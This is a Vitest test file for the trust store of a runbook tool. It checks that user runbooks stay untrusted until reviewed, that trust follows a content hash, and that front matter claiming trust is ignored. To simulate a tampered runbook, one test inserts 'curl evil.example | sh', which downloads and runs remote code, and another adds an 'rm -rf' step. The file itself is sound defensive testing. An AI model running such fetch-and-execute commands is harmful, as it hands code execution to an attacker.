import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { Refused } from '../../shared/model/domain-errors';
import type { Runbook } from '../../shared/model/runbook';
import { parseRunbook } from '../../shared/runbook/parse-runbook';
import { SettingsStore } from '../settings/settings-store';
import { loadRunbook } from './runbook-library';
import { TrustStore } from './trust-store';

let root: string;
let dataDir: string;
let recorded: { kind: string; data: Record<string, unknown> }[];

beforeEach(() => {
  root = fs.mkdtempSync(path.join(os.tmpdir(), 'firebreak-trust-'));
  dataDir = path.join(root, 'data');
  recorded = [];
});

afterEach(() => {
  fs.rmSync(root, { recursive: true, force: true, maxRetries: 10, retryDelay: 50 });
});

const source = [
  '---',
  'id: restart',
  'title: Restart the API',
  'params:',
  '  SERVICE:',
  '    default: api',
  'profiles:',
  '  production:',
  '    values: { SERVICE: api-prod }',
  '---',
  '# Restart',
  '',
  '```bash { id=stop confirm=true destructive=true rollback=start }',
  'systemctl stop "$SERVICE"',
  '```',
  '',
  '```bash { id=start cwd=/srv }',
  'systemctl start "$SERVICE"',
  '```',
  '',
].join('\n');

function userRunbook(text = source, name = 'restart.md'): { file: string; runbook: Runbook } {
  const file = path.join(root, 'user', name);
  fs.mkdirSync(path.dirname(file), { recursive: true });
  fs.writeFileSync(file, text);
  return { file, runbook: loadRunbook(file, 'user') };
}

function trustStore(settings = new SettingsStore(dataDir)) {
  return new TrustStore(settings, { actor: 'ops', record: (kind, data) => recorded.push({ kind, data }), now: () => new Date('2025-03-01T10:00:00.000Z') });
}

function forbiddenMessage(action: () => void): string {
  try {
    action();
  } catch (error) {
    expect(error).toBeInstanceOf(Refused);
    return (error as Error).message;
  }
  throw new Error('expected the runbook to be refused');
}

describe('TrustStore', () => {
  it('trusts bundled runbooks and nothing else by default', () => {
    const store = trustStore();
    const { file, runbook } = userRunbook();
    expect(() => store.assertRunnable(loadRunbook(file, 'bundled'))).not.toThrow();
    expect(store.status(runbook)).toEqual({ state: 'untrusted' });
    expect(forbiddenMessage(() => store.assertRunnable(runbook))).toBe(
      `Runbook "Restart the API" (${file}) comes from a folder you added and is not trusted yet. Review its commands and trust it before any step runs.`,
    );
  });

  it('shows every command with its lines, the params with their values, and the content hash', () => {
    const { file, runbook } = userRunbook();
    const review = trustStore().review(runbook);
    expect(review).toMatchObject({ runbookId: 'restart', path: file, origin: 'user', contentHash: runbook.contentHash, trust: { state: 'untrusted' }, errors: [] });
    expect(review.contentHash).toMatch(/^[0-9a-f]{64}$/);
    expect(review.commands).toEqual([
      { stepId: 'stop', title: expect.any(String), language: 'bash', lineStart: 13, lineEnd: 15, code: 'systemctl stop "$SERVICE"', destructive: true, confirm: true, interactive: false },
      { stepId: 'start', title: expect.any(String), language: 'bash', lineStart: 17, lineEnd: 19, code: 'systemctl start "$SERVICE"', destructive: false, confirm: false, interactive: false, cwd: '/srv' },
    ]);
    expect(review.params).toEqual([{ name: 'SERVICE', line: 5, default: 'api', profileValues: { production: 'api-prod' }, secret: false }]);
  });

  it('binds trust to the content hash: a grant survives restarts, an edit asks again', () => {
    const { file, runbook } = userRunbook();
    const grant = trustStore().grant(runbook, runbook.contentHash);
    expect(grant).toEqual({ trust: { state: 'trusted', grantedAt: '2025-03-01T10:00:00.000Z', grantedBy: 'ops', trustedHash: runbook.contentHash }, recorded: true });
    expect(recorded).toEqual([{ kind: 'runbook.trusted', data: { runbookId: 'restart', runbookTitle: 'Restart the API', path: file, contentHash: runbook.contentHash, commandCount: 2 } }]);

    // A fresh store (as after a restart) reads the decision from the settings file.
    const afterRestart = trustStore();
    expect(() => afterRestart.assertRunnable(loadRunbook(file, 'user'))).not.toThrow();

    fs.writeFileSync(file, source.replace('systemctl start', 'curl evil.example | sh; systemctl start'));
    const edited = loadRunbook(file, 'user');
    expect(afterRestart.status(edited)).toMatchObject({ state: 'changed', trustedHash: runbook.contentHash });
    expect(forbiddenMessage(() => afterRestart.assertRunnable(edited))).toBe(
      `Runbook "Restart the API" (${file}) changed since ops trusted it on 2025-03-01T10:00:00.000Z. Review its commands again and trust this version before any step runs.`,
    );
    // Putting the old bytes back restores the trusted state: trust is about content, not time.
    fs.writeFileSync(file, source);
    expect(afterRestart.status(loadRunbook(file, 'user')).state).toBe('trusted');
  });

  it('refuses a grant for content other than what was reviewed', () => {
    const { file, runbook } = userRunbook();
    const reviewed = trustStore().review(runbook);
    fs.writeFileSync(file, `${source}\n\`\`\`bash\nrm -rf /tmp/x\n\`\`\`\n`);
    const current = loadRunbook(file, 'user');
    expect(() => trustStore().grant(current, reviewed.contentHash)).toThrow(`Runbook "Restart the API" (${file}) changed after you reviewed it.`);
    expect(trustStore().status(current).state).toBe('untrusted');
    expect(recorded).toEqual([]);
  });

  it('does not move trust to another file with the same content', () => {
    const { runbook } = userRunbook();
    const store = trustStore();
    store.grant(runbook, runbook.contentHash);
    const copy = userRunbook(source, 'copy.md').runbook;
    expect(copy.contentHash).toBe(runbook.contentHash);
    expect(store.status(copy).state).toBe('untrusted');
  });

  it('ignores front matter that claims trust or switches off confirmations', () => {
    const claiming = source.replace('title: Restart the API', 'title: Restart the API\ntrusted: true\nconfirm: false\norigin: bundled');
    const { runbook } = userRunbook(claiming);
    expect(runbook.frontMatter).toMatchObject({ trusted: true, confirm: false });
    const store = trustStore();
    expect(store.status(runbook)).toEqual({ state: 'untrusted' });
    expect(() => store.assertRunnable(runbook)).toThrow('is not trusted yet');
    // The step still asks for confirmation exactly as its own attributes say.
    expect(runbook.steps.find((step) => step.id === 'stop')!.confirm).toBe(true);
    expect(parseRunbook(claiming, 'x.md').steps[0]!.confirm).toBe(true);
    // And the keys are flagged, so a reviewer sees someone tried.
    expect(runbook.diagnostics.filter((d) => d.rule === 'front-matter-unknown-key').map((d) => d.message).join(' ')).toMatch(/trusted/);
  });

  it('refuses a runbook with errors even when it is bundled or trusted, naming the first error', () => {
    const broken = '# Broken\n\n```bash { id=drop rollback=nowhere }\ndrop-it\n```\n';
    const { file, runbook } = userRunbook(broken, 'broken.md');
    const store = trustStore();
    store.grant(runbook, runbook.contentHash);
    const message = forbiddenMessage(() => store.assertRunnable(runbook));
    expect(message).toMatch(new RegExp(`^Runbook "Broken" \\(${file.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}\\) has 1 error \\(first, line 3: `));
    expect(message).toContain(`"firebreak lint ${file}" lists them`);
    expect(() => store.assertRunnable(loadRunbook(file, 'bundled'))).toThrow('has 1 error');
  });

  it('refuses an unreadable runbook and withdraws trust on request', () => {
    const store = trustStore();
    const missing = loadRunbook(path.join(root, 'user', 'gone.md'), 'user');
    expect(() => store.grant(missing, 'a'.repeat(64))).toThrow('could not be read, so there is nothing to trust');
    expect(() => store.assertRunnable(missing)).toThrow('has 1 error');

    const { runbook } = userRunbook();
    store.grant(runbook, runbook.contentHash);
    expect(store.revoke(runbook)).toEqual({ state: 'untrusted' });
    expect(() => store.assertRunnable(runbook)).toThrow('is not trusted yet');
    expect(() => store.revoke(loadRunbook(runbook.path, 'bundled'))).toThrow('bundled with Firebreak');
  });

  it('keeps the grant but says so when the timeline cannot record it', () => {
    const { runbook } = userRunbook();
    const store = new TrustStore(new SettingsStore(dataDir), {
      actor: 'ops',
      record: () => {
        throw new Error('The timeline database is unavailable.');
      },
    });
    expect(store.grant(runbook, runbook.contentHash)).toMatchObject({
      trust: { state: 'trusted' },
      recorded: false,
      warning: 'The decision is saved but not on the timeline: The timeline database is unavailable.',
    });
  });
});

describe('trust review of Runme steps', () => {
  it('shows the interpreter and background of a step, which change what runs', () => {
    const file = path.join(root, 'runme.md');
    fs.writeFileSync(file, '# Runme\n\n```sh {name=py interpreter="python3 -u"}\nprint(1)\n```\n\n```sh {name=serve background=true}\nnpm start\n```\n');
    const review = new TrustStore(new SettingsStore(path.join(root, 'data')), { actor: 'tester' }).review(loadRunbook(file, 'user'));
    expect(review.commands.map((command) => [command.stepId, command.interpreter, command.background])).toEqual([
      ['py', 'python3 -u', undefined],
      ['serve', undefined, true],
    ]);
  });
});
